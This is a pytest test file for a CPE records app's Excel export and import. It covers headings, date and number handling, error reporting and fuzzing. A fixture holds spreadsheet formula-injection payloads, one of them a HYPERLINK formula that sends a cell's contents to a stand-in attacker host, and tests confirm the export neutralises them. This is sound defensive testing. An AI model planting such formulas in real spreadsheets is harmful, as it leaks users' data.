"""Records as an Excel workbook: the export read back with openpyxl; real and odd workbooks in."""

from __future__ import annotations

import datetime as dt
import warnings
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE as ILLEGAL

from cpe_desktop.db.models import ActivityLog, CpeRecord, User
from cpe_desktop.services import records, users
from cpe_desktop.services.errors import ServiceError, ValidationError
from cpe_desktop.services.interchange import export_file, import_document, import_file
from cpe_desktop.services.interchange.csv_format import HEADER, restore
from cpe_desktop.services.interchange.mapped_import import import_mapped, preview
from cpe_desktop.services.interchange.mapping import guess_mapping
from cpe_desktop.services.interchange.tabular import read_table
from cpe_desktop.services.interchange.xlsx_format import HEADINGS, export_records_xlsx
from tests.helpers.interchange_documents import (
    other_database,
    saved_records,
    table_counts,
    two_people_document,
)

PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "sponsor": "+1",
    "sponsor_id": "-2+3",
    "notes": "@SUM(A1)",
    "ethics_jurisdiction": "'=already quoted",
}


@pytest.fixture
def alice(seeded, system) -> User:
    return users.create_user(system, {"name": "Alice", "email": "alice@example.com"}).value


def _workbook(path: Path, rows: list[list[Any]], *, title: str = "Sheet1", more=()) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for name, extra in more:
        other = book.create_sheet(name)
        for row in extra:
            other.append(row)
    book.save(path)
    return path


def _cells(path: Path) -> list[tuple]:
    book = openpyxl.load_workbook(path)
    try:
        return [tuple(row) for row in book.active.iter_rows(values_only=True)]
    finally:
        book.close()


# --- export ---------------------------------------------------------------------------------------


# The template's columns, headed in words ("Date completed", not completed_on).
HEADED = tuple(HEADINGS[name] for name in HEADER)


def test_every_heading_in_words_is_read_back_as_its_column():
    """Issue 15, item 13: headings for people, not snake_case; the import still finds them all."""
    assert all(heading[:1].isupper() and "_" not in heading for heading in HEADINGS.values())
    headings = list(HEADINGS.values())
    mapping = guess_mapping(headings)
    assert {name: headings[index] for name, index in mapping.items()} == HEADINGS


def test_export_has_the_template_columns_with_real_dates_and_numbers(system, alice, tmp_path):
    records.create_record(
        system,
        {
            "user_id": alice.user_id,
            "title": "Tax update",
            "sponsor": "ACME CPE",
            "sponsor_id": "103456",
            "completed_on": "2025-03-02",
            "delivery_method": "Group Live",
            "credits": [
                {"field": "Taxes", "credits": 4},
                {"field": "Regulatory Ethics", "credits": 1.5},
            ],
            "ethics_jurisdiction": "Texas",
        },
    )
    path = tmp_path / "records.xlsx"

    summary = export_file(system, path, "xlsx")

    assert summary.describe() == f"Exported 1 person and 1 record (2 rows) to {path}."
    assert _cells(path) == [
        HEADED,
        (dt.datetime(2025, 3, 2), "Tax update", "ACME CPE", "103456", "Group Live",
         "Regulatory Ethics", 1.5, "Texas", None),
        (dt.datetime(2025, 3, 2), "Tax update", "ACME CPE", "103456", "Group Live",
         "Taxes", 4, "Texas", None),
    ]  # fmt: skip
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet["A2"].is_date and sheet["A2"].number_format == "yyyy-mm-dd"
    assert sheet["G2"].data_type == "n" and sheet.freeze_panes == "A2"
    book.close()
    assert [a.action for a in ActivityLog.select()] == ["exported xlsx"]


def test_an_export_of_several_people_starts_with_their_email(seeded, system, tmp_path):
    import_document(system, two_people_document())
    path = tmp_path / "firm.xlsx"
    summary = export_records_xlsx(system, path)
    rows = _cells(path)
    assert rows[0] == ("Email", *HEADED, "Course topics")  # a record has a course topic
    assert (summary.people, summary.records, summary.rows) == (2, 20, len(rows) - 1)
    assert {row[0] for row in rows[1:]} == {"alice@example.com", "bob@example.com"}

    alice = User.get(User.email == "alice@example.com")
    before = table_counts()
    with pytest.raises(ValidationError) as caught:
        import_mapped(system, read_table(path), guess_mapping(rows[0]), alice)
    assert list(caught.value.errors) == ["row 18, Email"]  # Bob's first row
    assert "and 8 more rows" in str(caught.value)
    assert table_counts() == before


def test_formula_payloads_are_neutralised_and_come_back_on_import(system, alice, tmp_path):
    records.create_record(
        system,
        {
            "user_id": alice.user_id,
            "completed_on": "2025-05-05",
            "delivery_method": "Group Live",
            "credits": [{"field": "Taxes", "credits": 2}],
            **PAYLOADS,
        },
    )
    # Data written behind the services' back may hold a tab, a CR or a control character.
    CpeRecord.update(delivery_method="Group Live").execute()
    path = tmp_path / "evil.xlsx"
    export_records_xlsx(system, path)

    book = openpyxl.load_workbook(path)
    names = {heading: name for name, heading in HEADINGS.items()}
    header = [names[cell.value] for cell in book.active[1]]
    cells = {name: cell for name, cell in zip(header, book.active[2], strict=True)}
    assert all(cell.data_type != "f" for cell in book.active[2])  # no formula cell anywhere
    book.close()
    assert cells["title"].value == "'" + PAYLOADS["title"]
    assert cells["sponsor"].value == "'+1" and cells["sponsor_id"].value == "'-2+3"
    assert cells["notes"].value == "'@SUM(A1)"
    assert cells["ethics_jurisdiction"].value == "''=already quoted"
    assert {name: restore(cells[name].value) for name in PAYLOADS} == PAYLOADS

    bob = users.create_user(system, {"name": "Bob", "email": "bob@example.com"}).value
    table = read_table(path)
    assert import_mapped(system, table, guess_mapping(table.headers), bob).records_added == 1
    assert saved_records(bob) == saved_records(alice)


def test_leading_tab_and_control_characters_in_stored_data_are_made_safe(system, alice, tmp_path):
    records.create_record(
        system,
        {
            "user_id": alice.user_id,
            "title": "Legacy",
            "completed_on": "2025-05-05",
            "delivery_method": "Group Live",
            "credits": [{"field": "Taxes", "credits": 2}],
        },
    )
    CpeRecord.update(notes="\tnote", sponsor="\rsponsor", sponsor_id="a\x01b").execute()
    path = tmp_path / "legacy.xlsx"
    export_records_xlsx(system, path)
    row = dict(zip(HEADER, _cells(path)[1], strict=True))
    assert (row["notes"], row["sponsor_id"]) == ("'\tnote", "a\ufffdb")
    # XML turns a stored carriage return into a line feed; the cell is still neutralised.
    assert row["sponsor"] == "'\nsponsor"


def test_a_one_person_export_imports_into_another_database_unchanged(seeded, system, tmp_path):
    import_document(system, two_people_document())
    path = tmp_path / "alice.xlsx"
    export_file(system, path, "xlsx", user_email="alice@example.com")
    original = saved_records(User.get(User.email == "alice@example.com"))

    with other_database(tmp_path / "other.db", seeded):
        carol = users.create_user(system, {"name": "Carol", "email": "carol@example.com"}).value
        summary = import_file(system, path)
        assert summary.records_added == 12
        assert saved_records(carol) == original
        assert import_file(system, path).records_skipped == 12


# --- import ---------------------------------------------------------------------------------------


def test_a_hand_kept_workbook_with_real_dates_numbers_and_a_chosen_sheet(system, alice, tmp_path):
    path = _workbook(
        tmp_path / "mine.xlsx",
        [["Summary sheet"], ["nothing to import here"]],
        title="Cover",
        more=[
            (
                "2025",
                [
                    [],
                    ["Date", "Course", "NASBA ID", "Format", "Field of Study", "CPE", "Comments"],
                    [dt.datetime(2025, 3, 2), "Tax update", 103456, "Live", "Taxes", 4, None],
                    [
                        dt.date(2025, 3, 3),
                        "Ethics",
                        103456.0,
                        "QAS",
                        "Regulatory Ethics",
                        0.1 + 0.2,
                        7,
                    ],
                    ["03/04/2025", "Audit", None, "Live", "Auditing", "2", None],
                ],
            )
        ],
    )
    assert read_table(path).sheet == "2025"  # the sheet with records, not the cover
    table = read_table(path, "2025")
    assert (table.sheets, table.header_row, [r.number for r in table.rows]) == (
        ("Cover", "2025"),
        2,
        [3, 4, 5],
    )

    summary = import_mapped(system, table, guess_mapping(table.headers), alice)

    assert summary.records_added == 3
    assert saved_records(alice) == [
        ("2025-03-02", "Tax update", None, "103456", "Group Live", None, None,
         (("Taxes", Decimal("4.00")),)),
        ("2025-03-03", "Ethics", None, "103456", "QAS Self Study", None, "7",
         (("Regulatory Ethics", Decimal("0.30")),)),
        ("2025-03-04", "Audit", None, None, "Group Live", None, None,
         (("Auditing", Decimal("2.00")),)),
    ]  # fmt: skip


def test_errors_name_the_excel_row_and_column_heading(system, alice, tmp_path):
    path = _workbook(
        tmp_path / "bad.xlsx",
        [
            ["Date", "Course", "Format", "Subject Area", "Hours"],
            [45000, "A number for a date", "Live", "Taxes", 2],
            [dt.datetime(2025, 1, 2), "Hours as a date", "Live", "Taxes", dt.datetime(2025, 1, 1)],
            [dt.datetime(2025, 1, 3), "Fine", "Live", "Taxes", 1],
        ],
    )
    table = read_table(path)
    checked = preview(system, table, guess_mapping(table.headers), alice)
    assert [(e.where, e.message[:30]) for e in checked.errors] == [
        ("row 2, Date", "is the number 45000, not a dat"),
        ("row 3, Hours", "'2025-01-01' is not a number o"),
    ]


@pytest.mark.parametrize(
    ("content", "words"),
    [(b"PK\x03\x04 not really", "is not an Excel workbook"), (b"", "is not an Excel workbook")],
)
def test_a_damaged_workbook_is_refused_naming_the_file(system, alice, tmp_path, content, words):
    path = tmp_path / "broken.xlsx"
    path.write_bytes(content)
    with pytest.raises(ValidationError) as caught:
        import_file(system, path)
    assert caught.value.field == str(path) and words in str(caught.value)


def test_an_unknown_sheet_and_an_empty_sheet_are_refused(system, tmp_path):
    path = _workbook(tmp_path / "e.xlsx", [])
    with pytest.raises(ValidationError, match="no sheet named 'Nope'"):
        read_table(path, "Nope")
    with pytest.raises(ValidationError) as caught:
        read_table(path)
    assert caught.value.field == "sheet Sheet1" and "empty" in str(caught.value)


# A stylesheet without named cell styles, as some programs write it.
_BARE_STYLES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    b'<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    b'<borders count="1"><border/></borders>'
    b'<cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellXfs>'
    b"</styleSheet>"
)


def test_openpyxl_warnings_about_a_foreign_workbook_do_not_leak_out(system, alice, tmp_path):
    plain = _workbook(
        tmp_path / "plain.xlsx",
        [["Date", "Course", "Format", "Field", "CPE"], ["2025-01-02", "A", "Live", "Taxes", 1]],
    )
    foreign = tmp_path / "foreign.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(foreign, "w") as target:
        for item in source.infolist():
            styles = item.filename == "xl/styles.xml"
            target.writestr(item, _BARE_STYLES if styles else source.read(item.filename))
    with pytest.warns(UserWarning, match="no default style"):  # openpyxl on its own warns
        openpyxl.load_workbook(foreign, read_only=True).close()

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        table = read_table(foreign)
    assert import_mapped(system, table, guess_mapping(table.headers), alice).records_added == 1


# --- Hypothesis -----------------------------------------------------------------------------------

_cell_values = st.one_of(
    st.none(),
    # What openpyxl can store as text (a leading "=" would make it a formula).
    st.text(max_size=8).filter(lambda s: not s.startswith("=") and not ILLEGAL.search(s)),
    st.integers(-5, 50_000),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.booleans(),
    st.dates(dt.date(1900, 3, 1), dt.date(2030, 1, 1)),
    st.sampled_from(
        ["2025-03-02", "03/02/2025", "Taxes", "Live", "Nano", "1.5", "0.2", "-1", "'=1", "ACME"]
    ),
)
_headings = st.sampled_from([*HEADER, "Date", "Course", "CPE Hours", "Format", "Colour", "", None])


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    headings=st.lists(_headings, min_size=1, max_size=9),
    rows=st.lists(st.lists(_cell_values, max_size=10), max_size=6),
)
def test_arbitrary_workbooks_are_imported_or_refused_cleanly(
    system, alice, tmp_path, headings, rows
):
    path = _workbook(tmp_path / "fuzz.xlsx", [headings, *rows])
    before = table_counts()
    try:
        summary = import_file(system, path)
    except ValidationError as exc:
        assert all(
            name.startswith(("row ", "sheet ")) or name in ("…", str(path)) for name in exc.errors
        ), exc.errors
        assert table_counts() == before
    except ServiceError:
        assert table_counts() == before
    else:
        assert table_counts()["cpe_records"] - before["cpe_records"] == summary.records_added
